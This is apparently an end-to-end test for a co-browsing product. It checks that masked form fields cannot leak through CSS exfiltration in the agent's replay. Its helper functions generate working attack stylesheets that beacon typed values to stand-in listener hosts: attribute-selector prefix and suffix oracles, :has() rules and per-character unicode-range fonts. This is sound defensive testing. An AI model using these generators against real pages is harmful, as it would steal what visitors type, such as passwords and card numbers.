"""CSS exfiltration of masked values: a customer page whose stylesheets try to leak what the
visitor types to a listener, through the agent's replay.

The page is real (visitor.js, the group's masking rules) and its CSS is the attacker's best:
attribute selectors with the true prefix as oracle (``input[value^="kq"]``), suffixes,
``:has()``, and ``@font-face`` families with one-character ``unicode-range``s applied to the
fields; a script mirrors every field's value into its ``value`` attribute, as frameworks with
controlled inputs do, and one field came with the secret as its default and was emptied. Each
masked field is masked by one rule only: ``mask_all_inputs``, a password, ``data-coview-mask``
or a group masking selector.

Every rule calls two listener hosts: ``cdn.shop.test``, which the group trusts (so the
viewer's policy lets it through and only masking can stop the leak), and ``leak.test``, which
it does not. The visitor's browser cannot resolve either name, so every request they receive
comes from the agent's replay (the visitor's page may load its own CSS; telling its requests
from the replay's by Referer would rest on a browser's referrer rules). An unmasked field under
the same rules is the control: its value does reach the trusted host, so the rules work in
the replay.
"""

from __future__ import annotations

import json
import string
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, WebSocket, expect

from coview.protocol.frames import decode_frame
from tests.cobrowse_support import (
    Beacons,
    Site,
    console_join,
    publish_settings,
    replayed,
    wait_event,
)
from tests.conftest import CHROMIUM, CHROMIUM_ARGS, Figure, Server, start_server, wait_until

pytestmark = pytest.mark.e2e

ALPHABET = string.ascii_lowercase + string.digits
SENTINEL = "kq7xz3"  # typed into every masked field: three characters before the agent joins
OPEN = "openvalue1"  # typed into the unmasked control field
HOSTS = ["cdn.shop.test", "leak.test"]

# Every text, attribute and field value of a document, but for its stylesheets' text.
SHOWN = """(html) => {
  const out = [];
  const walk = (n) => {
    if (n.nodeType === Node.ELEMENT_NODE) {
      if (n.localName === 'style') return;
      for (const a of n.attributes) out.push(a.value);
      if (typeof n.value === 'string') out.push(n.value);
    } else if (n.nodeType === Node.TEXT_NODE) {
      out.push(n.data);
    }
    for (const c of n.childNodes) walk(c);
  };
  walk(html);
  return out.join('\\n');
}"""

# Fields by how they are masked (docs/cobrowse.md, "Masking"), each by one rule only: the
# first three by `mask_all_inputs` (on by default), the others inside a data-coview-unmask
# region. `kept` came with the sentinel as its default (value attribute); the visitor empties
# it. `open` is not masked: the control.
FIELDS = {"card": '<input id="card" autocomplete="off">',
          "note": '<textarea id="note"></textarea>',
          "pad": '<span id="pad" contenteditable="true"></span>',
          "pw": '<input id="pw" type="password">',
          "secret": '<input id="secret" data-coview-mask>',
          "ssn": '<input id="ssn" class="ssn">',
          "kept": f'<input id="kept" data-coview-mask value="{SENTINEL}">',
          "open": '<input id="open">'}
MASKED = ["card", "note", "pad", "pw", "secret", "ssn", "kept"]
TYPED = [field for field in MASKED if field != "kept"]  # the fields the visitor types into
MIRROR = """<script>
  // As React does for controlled inputs: the value attribute follows the value.
  document.addEventListener("input", (e) => {
    const field = e.target;
    if (field.matches("input:not(#kept), textarea")) field.setAttribute("value", field.value);
  });
</script>"""


def form() -> str:
    """The customer's form: each field in a row of its own, a span after it."""
    rows = [f'<p id="row-{field}">{html}<span id="after-{field}">.</span></p>'
            for field, html in FIELDS.items()]
    return "".join(rows[:3]) + "<div data-coview-unmask>" + "".join(rows[3:]) + "</div>" + MIRROR


def rules(field: str, value: str, base: str, *, after: bool) -> list[str]:
    """Every rule that would tell ``value`` (or any character of it) in ``field`` to the
    listener at ``base``: its prefixes (as an attacker who learned them already would ask,
    longest last, so that the longest one found wins the cascade), its last character, and
    its characters through ``:has()``. With ``after``, the rules load ``::after`` contents
    (so that they and the rules without it do not hide each other in the cascade)."""
    tag = FIELDS[field].split(" ", 1)[0][1:]
    prefix, suffix, has = ((" + span::after", " + span::before", "::after") if after
                           else ("", " + span", ""))
    load = "content" if after else "background-image"
    out = []
    for size in range(1, len(value) + 1):
        for c in ALPHABET:
            guess = value[:size - 1] + c
            out.append(f'{tag}#{field}[value^="{guess}"]{prefix}'
                       f"{{{load}:url({base}/prefix/{guess})}}")
    for c in ALPHABET:
        out.append(f'{tag}#{field}[value$="{c}"]{suffix}{{{load}:url({base}/suffix/{c})}}')
        out.append(f'p#row-{field}:has({tag}[value*="{c}"]){has}'
                   f"{{{load}:url({base}/has/{c})}}")
    return out


def fonts(family: str, base: str) -> tuple[list[str], list[str]]:
    """One font per character, each asked for only when text shows that character; and the
    families that use them all."""
    faces = [f"@font-face{{font-family:{family}-{c};src:url({base}/font/{c});"
             f"unicode-range:U+{ord(c):04X}}}" for c in ALPHABET]
    return faces, [f"{family}-{c}" for c in ALPHABET]


def stylesheets(beacons: Beacons) -> tuple[str, str]:
    """The page's CSS, against the trusted listener (inline) and the other one (a linked
    stylesheet): masked values to /masked/FIELD/..., the control's value to /open/..."""
    sheets: list[list[str]] = [[], []]
    families: dict[str, list[str]] = {"masked": [], "open": []}
    for i, host in enumerate(HOSTS):
        origin = beacons.origin(host)
        for kind in families:
            faces, names = fonts(f"{kind}-{host.split('.')[0]}",
                                 f"{origin}/{kind}" + ("/font" if kind == "masked" else ""))
            sheets[i] += faces
            families[kind] += names
        for field in MASKED:
            sheets[i] += rules(field, SENTINEL, f"{origin}/masked/{field}", after=i == 1)
        sheets[i] += rules("open", OPEN, f"{origin}/open", after=i == 1)
    sheets[1] += [f"#{field}{{font-family:{','.join(families['masked'])},monospace}}"
                  for field in MASKED]
    sheets[1].append(f"#open{{font-family:{','.join(families['open'])},monospace}}")
    return "\n".join(sheets[0]), "\n".join(sheets[1])


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp: Path = tmp_path_factory.mktemp("css-exfiltration")
    running = start_server(tmp, ["--data-dir", str(tmp / "data")])
    yield running
    running.stop()


@pytest.fixture(scope="module")
def site(server: Server) -> Iterator[Site]:
    shop = Site(server.base_url)
    yield shop
    shop.close()


@pytest.fixture(scope="module")
def beacons() -> Iterator[Beacons]:
    listener = Beacons()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def blind_browser(browser: Browser) -> Iterator[Browser]:
    """A browser for the visitor that cannot resolve the listeners' names: whatever reaches
    them came from the agent's replay."""
    args = [arg for arg in CHROMIUM_ARGS if not arg.startswith("--host-resolver-rules")]
    args.append("--host-resolver-rules=" + ", ".join(f"MAP {host} ~NOTFOUND" for host in HOSTS)
                + ", MAP *.test 127.0.0.1")
    launched = browser.browser_type.launch(executable_path=CHROMIUM, args=args)
    yield launched
    launched.close()


def strings_on_wire(data: bytes) -> Iterator[str]:
    """Every string a session frame carries (relayed and caught-up ones unwrapped, ``dom``
    payloads read as rrweb events), but for the page's stylesheet text: the attacker's rules
    hold the guesses, the sentinel's prefixes among them."""
    frame = decode_frame(data, max_bytes=1 << 26)
    while frame.type in ("r", "catchup"):
        frame = decode_frame(frame.payload, max_bytes=1 << 26)
    yield from strings_in(frame.header)
    if frame.type == "dom":
        yield from strings_in(json.loads(frame.payload))
    elif frame.payload:
        yield frame.payload.decode(errors="replace")


def strings_in(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)
    elif isinstance(value, dict):
        if value.get("isStyle") or "rule" in value:  # a style's text, an inserted rule
            return
        for key, item in value.items():
            if key != "_cssText":
                yield from strings_in(item)


def type_into(page: Page, text: str, fields: list[str]) -> None:
    """Type ``text`` at the end of each field."""
    for field in fields:
        page.locator(f"#{field}").focus()
        page.keyboard.press("End")
        page.keyboard.type(text)


def test_page_css_leaks_no_masked_value_from_the_agents_replay(
        browser: Browser, blind_browser: Browser, server: Server, site: Site,
        beacons: Beacons, figure: Figure) -> None:
    """Attribute selectors, :has() and unicode-range fonts in the page's CSS reach no
    listener with a masked value from the agent's replay, and the masked values never reach
    the agent's socket."""
    publish_settings(server, trusted_origins=[site.origin(), beacons.origin("cdn.shop.test")],
                     masking_selectors=[".ssn"], mask_all_inputs=True)
    inline, linked = stylesheets(beacons)
    site.raw["/leak.css"] = ("text/css", linked.encode())
    site.pages["/form"] = (f"<style>{inline}</style>"
                           '<link rel="stylesheet" href="/leak.css">' + form())
    visitor_context = blind_browser.new_context()
    page = visitor_context.new_page()
    page.goto(site.origin() + "/form")
    page.locator("#kept").fill("")
    type_into(page, SENTINEL[:3], TYPED)
    type_into(page, OPEN[:4], ["open"])
    page.wait_for_function("window.COVIEW && window.COVIEW.Cobrowse.Visitor")
    page.evaluate("COVIEW.Cobrowse.Visitor.startSession()")
    key = str(wait_event(page, "sessionstart")["sessionkey"])

    agent_context = browser.new_context(viewport={"width": 1400, "height": 1000})
    wire: list[bytes] = []

    def tap(socket: WebSocket) -> None:
        socket.on("framereceived", lambda payload: wire.append(
            payload if isinstance(payload, bytes) else payload.encode()))
    agent_context.on("page", lambda new: new.on("websocket", tap))
    sent: list[bytes] = []
    page.on("websocket", lambda socket: socket.on("framesent", lambda payload: sent.append(
        payload if isinstance(payload, bytes) else payload.encode())))
    console = console_join(agent_context, server, key)
    frame = replayed(console)
    expect(frame.locator("#open")).to_have_value(OPEN[:4])
    # The rest is typed while the agent watches (input events and attribute changes).
    type_into(page, SENTINEL[3:], TYPED)
    type_into(page, OPEN[4:], ["open"])

    # The control: the same rules tell the unmasked value, from the replay, to the trusted host.
    control = {f"/open/prefix/{OPEN}", f"/open/suffix/{OPEN[-1]}", f"/open/has/{OPEN[-1]}",
               "/open/font/o"}
    wait_until(lambda: control <= {hit.path for hit in beacons.to("cdn.shop.test")},
               what="the control field's beacons")
    wait_until(lambda: frame.locator("html").evaluate(
        "(html) => html.ownerDocument.fonts.status === 'loaded'"), what="the replay's fonts")

    masked = [hit for hit in beacons.hits if hit.path.startswith("/masked/")]
    untrusted = beacons.to("leak.test")
    rule_count = len(rules("card", SENTINEL, "", after=False)) * len(MASKED) * len(HOSTS)
    figure("beacons with a masked value from the agent's replay (attribute selectors, :has(), "
           "unicode-range fonts)", f"{len(masked)} (of {rule_count} rules and "
           f"{len(ALPHABET) * len(HOSTS)} fonts)", "0")
    assert masked == []
    assert untrusted == []  # not a trusted origin: the viewer's policy refused even the control
    pieces = [SENTINEL, SENTINEL[:3], SENTINEL[3:]]
    seen = [text for data in wire + sent for text in strings_on_wire(data)]
    on_wire = [p for p in pieces for text in seen if p in text]
    figure("masked value seen on the agent's socket or leaving the visitor's", len(on_wire), "0")
    assert on_wire == []
    assert any(OPEN in text for text in seen)  # the tap saw the page
    # The replay shows the masks (and the emptied field empty), and the masked values nowhere.
    for field in TYPED:
        if field == "pad":
            expect(frame.locator("#pad")).to_have_text("******")
        else:
            expect(frame.locator(f"#{field}")).to_have_value("******")
    expect(frame.locator("#kept")).to_have_value("")
    shown = frame.locator("html").evaluate(SHOWN)
    assert not [p for p in pieces if p in shown]
    agent_context.close()
    visitor_context.close()
